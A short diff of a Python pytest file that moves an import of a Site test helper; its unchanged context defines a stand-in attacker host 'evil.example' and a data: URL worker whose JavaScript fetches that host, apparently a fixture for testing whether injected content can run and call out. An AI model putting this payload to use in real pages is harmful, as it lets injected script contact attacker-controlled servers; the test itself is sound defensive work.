@@ -24,7 +24,7 @@ from typing import Any
 
 import pytest
 
-from tests.conftest import Site
+from tests.support.sites import Site
 
 EVIL_HOST = "evil.example"
 WORKER = f"data:text/javascript,fetch('https://{EVIL_HOST}/ran-from-content')"
